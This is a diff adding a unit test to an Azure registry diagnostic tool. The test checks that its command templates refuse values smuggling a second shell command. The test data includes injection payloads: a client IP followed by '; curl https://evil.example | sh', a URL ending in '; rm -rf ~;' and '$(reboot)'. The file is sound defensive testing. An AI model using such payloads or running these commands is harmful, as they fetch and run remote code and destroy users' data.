@@ -7,7 +7,7 @@ import { t } from '../../src/engine/i18n/i18n.js';
 import type { AksFacts, AksNetworkFacts, Facts, Finding, JsonObject, Lang } from '../../src/engine/report/types.js';
 import { parseRegistryTarget } from '../../src/engine/target/registry-target.js';
 import { readFileSync } from 'node:fs';
-import { knowledge } from '../../src/engine/knowledge/knowledge.js';
+import { fillTemplate, knowledge } from '../../src/engine/knowledge/knowledge.js';
 import { MAX_CLUSTER_CHOICES } from '../../dialogs/diagnose-dialog.js';
 import { reportProblems } from '../../src/engine/report/validate.js';
 import { HEALTHY_EVIDENCE, sampleReport } from '../helpers/sample-report.js';
@@ -186,5 +186,19 @@ describe('AKS rules: the cluster\'s networks, DNS and egress against the registr
     assert.equal(verdictKey({ verdict: 'problem', checks: [pass, { status: 'fail' }] as never }), 'cli.verdict.problem');
     assert.equal(verdictKey({ verdict: 'healthy', checks: [pass] as never }), 'cli.verdict.healthy');
     assert.match(t('en', 'cli.verdict.problemConfiguration', { loginServer: 'r.azurecr.io' }), /r\.azurecr\.io answers this machine, but its configuration in Azure keeps the client out/);
+  });
+
+  it('a value a shell would read more into (an uploaded report\'s evidence) becomes the placeholder in a command to paste', function () {
+    const denied = [ev('v2', 'v2.denied', { clientIp: '203.0.113.7; curl https://evil.example | sh' })];
+    const commands = evaluate({ registry, symptoms: [], client: { kind: 'vm', dnsServers: [], platform: 'linux/x64' }, evidence: [...healthy.slice(0, 3), { ...denied[0]!, status: 'fail' }], facts: {} })
+      .map((f) => renderFinding('en', f))
+      .flatMap((f) => f.fixes.flatMap((x) => x.commands));
+    assert.ok(commands.some((c) => c.includes('--ip-address <client-ip>')), commands.join('\n'));
+    assert.ok(!commands.some((c) => c.includes('evil')), 'nothing of it pasted');
+    // Where the template quotes the value, only what ends the quotes is refused.
+    assert.equal(fillTemplate("curl -sv '{azureUrl}'", { azureUrl: 'http://169.254.169.254/metadata/instance?api-version=2021-02-01' }), "curl -sv 'http://169.254.169.254/metadata/instance?api-version=2021-02-01'");
+    assert.equal(fillTemplate("curl -sv '{azureUrl}'", { azureUrl: "https://x/'; rm -rf ~; '" }), "curl -sv 'https://<azure-host>/'");
+    assert.equal(fillTemplate('az acr network-rule add --ip-address {clientIp}', { clientIp: '$(reboot)' }), 'az acr network-rule add --ip-address <client-ip>');
+    assert.equal(fillTemplate('curl --proxy {proxyWithCredentials} x', { proxyWithCredentials: 'http://<user>:<password>@proxy:3128' }), 'curl --proxy http://<user>:<password>@proxy:3128 x', 'our own placeholders stay');
   });
 });
